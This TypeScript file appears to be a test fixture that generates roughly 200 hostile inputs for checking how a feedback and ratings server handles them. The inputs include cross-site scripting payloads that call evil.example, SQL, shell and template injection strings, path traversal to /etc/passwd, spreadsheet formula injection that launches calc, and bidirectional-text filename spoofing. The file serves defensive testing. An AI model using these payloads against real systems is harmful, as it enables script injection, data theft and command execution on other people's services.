/** Texts that somebody might send who means harm, or whose keyboard does. Some 200, all of which the server takes. */
export function hostileTexts(): string[] {
  const texts = [...markup(), ...templates(), ...formulas(), ...addresses(), ...directions(), ...marks(), ...lengths()]
  return [...new Set(texts)]
}

const HARM = ['alert(1)', "fetch('https://evil.example/')", 'location="//evil.example"', 'document.body.innerHTML=""']

/** Each with each harm: scripts, handlers, pictures from elsewhere, styles, things that end what stands around them. */
function markup(): string[] {
  return HARM.flatMap((harm) => [
    `<script>${harm}</script>`,
    `"><script>${harm}</script>`,
    `'"--></style></script><script>${harm}</script>`,
    `<img src=x onerror="${harm.replaceAll('"', "'")}">`,
    `<img src="https://evil.example/a.png" onload='${harm}'>`,
    `<svg onload='${harm}'><animate onbegin='${harm}' attributeName=x></svg>`,
    `<svg><script xlink:href="https://evil.example/a.js"></script><g onload='${harm}'></g></svg>`,
    `<iframe srcdoc="<script>${harm.replaceAll('"', '&quot;')}</script>"></iframe>`,
    `<iframe src="javascript:${encodeURIComponent(harm)}"></iframe>`,
    `<a href="javascript:${encodeURIComponent(harm)}" autofocus onfocus='${harm}'>click</a>`,
    `<math><mtext><table><mglyph><style><img src=x onerror='${harm}'></style></mglyph></table></mtext></math>`,
    `<details open ontoggle='${harm}'>x</details>`,
    `<video><source onerror='${harm}'></video>`,
    `<body onload='${harm}'><input autofocus onfocus='${harm}'>`,
    `<style>@import "https://evil.example/a.css"; * { display: none !important }</style>`,
    `<link rel=stylesheet href="https://evil.example/a.css"><base href="https://evil.example/">`,
    `<meta http-equiv=refresh content="0; url=https://evil.example/">${harm}`,
    `<form action="https://evil.example/"><button autofocus>${harm}</button></form>`,
    `</textarea></title></dialog></div></table><h1 style="position:fixed;inset:0">${harm}</h1>`,
    `&lt;script&gt;${harm}&lt;/script&gt; &#60;img src=x onerror=${harm}&#62;`,
    `\u003Cscript\u003E${harm}\u003C/script\u003E <![CDATA[<script>${harm}</script>]]> <!--${harm}`,
  ])
}

function templates(): string[] {
  return [
    '{{constructor.constructor("alert(1)")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text itself
    '${alert(1)}',
    '<%= 7 * 7 %>',
    '#{7*7}',
    '{% raw %}{{ config }}',
    '{{__proto__.polluted=1}}',
    '__proto__',
    'constructor',
    'toString',
    '[object Object]',
    'undefined',
    'null',
    'NaN',
    '{"__proto__":{"polluted":true}}',
    '%s %n %x %d',
    '../../../../etc/passwd',
    "'; DROP TABLE ratings; --",
    '" OR ""="',
    'feedback MATCH "a" NEAR/0 *',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '\\',
    '"""',
    '`id`',
    '$(touch /tmp/x)',
  ]
}

function formulas(): string[] {
  const starts = ['=', '+', '-', '@', '\t=', '\r=', '＝', ' =']
  return starts.flatMap((start) => [
    `${start}HYPERLINK("https://evil.example/","click")`,
    `${start}cmd|' /C calc'!A0`,
    `${start}IMPORTXML("https://evil.example/", "//a")`,
  ])
}

function addresses(): string[] {
  return [
    'javascript:alert(document.domain)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'https://evil.example/track.gif',
    '//evil.example/a.js',
    'file:///etc/passwd',
    'blob:https://evil.example/1',
    'mailto:a@evil.example?subject=<script>',
  ]
}

/** Overrides, embeddings and isolates, closed, not closed, and closed too often. */
function directions(): string[] {
  const [LRE, RLE, PDF, LRO, RLO] = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e']
  const [LRI, RLI, FSI, PDI] = ['\u2066', '\u2067', '\u2068', '\u2069']
  return [
    ...[LRE, RLE, LRO, RLO, LRI, RLI, FSI].flatMap((sign) => [
      `${sign}not closed, with a price of 100 $ and "quotes"`,
      `before ${sign}open`,
      sign.repeat(130),
    ]),
    ...[PDF, PDI].map((sign) => `${sign.repeat(50)} closed too often ${RLO}txt.exe`),
    'مرحبا بالعالم، الدعم ممتاز 100% (شكرا)!',
    'שלום עולם <script>alert(1)</script> 5/5',
    `${RLO}gnp.evil\u200f(5)\u200e${RLI}`,
    '\u200f\u200f\u200f5 ★★★★★',
    'تقييم \u202dfeedback\u202c 1/5 — <b>bold</b>',
    `${RLI}${LRI}${RLI}${LRI}`.repeat(60),
  ]
}

/** Marks that pile up, characters without width, emoji of many parts, control characters. */
function marks(): string[] {
  const pile = (base: string, times: number) => base + '\u0301\u0322\u0489\u035f'.repeat(times / 4)
  return [
    `a${'\u0301'.repeat(9_999)}`,
    pile('Z', 9_996),
    [...'zalgo is here and it is tall'].map((sign) => pile(sign, 200)).join(''),
    [...'He comes'].map((sign) => pile(sign, 40)).join(' '),
    '\u0489'.repeat(10_000),
    '\u20dd'.repeat(500),
    `${'ก'}${'\u0e49'.repeat(3_000)}`,
    `${'क'}${'\u094d\u0937'.repeat(2_000)}`,
    '👩‍👩‍👧‍👦'.repeat(400),
    '🏳️‍🌈🏴‍☠️👨🏿‍🚀🤦🏽‍♀️'.repeat(50),
    `👩${'\u200d👩'.repeat(3_000)}`,
    '🇩🇪🇫🇷'.repeat(200),
    '\u200b'.repeat(5_000),
    `${'\u200d'.repeat(2_000)}x`,
    '\ufeffbyte order',
    '\u2028line\u2029paragraph\u0085next',
    '\u0001\u0002\u0007\u0008\u001b[31mred\u001b[0m\u007f',
    '\ufe0f'.repeat(1_000),
    '﷽'.repeat(400),
    '𒐫𒈙⸻'.repeat(200),
    'ﬁ ㎏ Ⅷ ⓐ 🄰 ｆｕｌｌ ｗｉｄｔｈ',
    '\u{e0041}\u{e0042}\u{e007f}'.repeat(300),
    '\u3164\u115f\u2800'.repeat(100),
    `${'\u034f'.repeat(1_000)}x${'\u180e'.repeat(1_000)}`,
  ]
}

function lengths(): string[] {
  return [
    'x'.repeat(10_000),
    'W'.repeat(10_000),
    '👍'.repeat(10_000),
    '漢'.repeat(10_000),
    '\u00a0'.repeat(10_000),
    '\n'.repeat(10_000),
    'a\n'.repeat(5_000),
    '\t'.repeat(2_000),
    ' '.repeat(2_000),
    `start${' '.repeat(3_000)}end`,
    '\r\n\r\n\r\nline'.repeat(500),
    '\u000b\u000c'.repeat(500),
    'word '.repeat(2_000),
    '-'.repeat(9_000),
    '\u00ad'.repeat(5_000),
    '/'.repeat(9_000),
  ]
}
